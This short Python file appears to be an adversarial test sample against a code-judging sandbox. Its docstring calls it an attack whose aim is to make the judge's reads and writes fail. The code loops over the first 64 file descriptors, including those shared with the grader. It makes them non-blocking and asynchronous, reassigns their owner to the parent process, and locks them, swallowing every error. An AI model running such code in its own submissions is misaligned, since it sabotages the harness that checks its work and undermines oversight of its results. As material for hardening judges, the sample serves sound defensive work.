"""Attack: makes every open file non-blocking, asynchronous and owned by somebody else, also those shared with the judge.
Wants: a sandbox or a judge whose reads and writes fail.
Honest mark: 22
"""


# %% own
import contextlib
import fcntl
import os
import struct

for descriptor in range(64):
    for change in (
        lambda fd: fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC | os.O_APPEND),
        lambda fd: fcntl.ioctl(fd, 0x5421, struct.pack("i", 1)),  # FIONBIO
        lambda fd: fcntl.ioctl(fd, 0x5452, struct.pack("i", 1)),  # FIOASYNC
        lambda fd: fcntl.fcntl(fd, fcntl.F_SETOWN, os.getppid()),
        lambda fd: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB),
        lambda fd: fcntl.lockf(fd, fcntl.LOCK_EX | fcntl.LOCK_NB),
    ):
        with contextlib.suppress(OSError):
            change(descriptor)
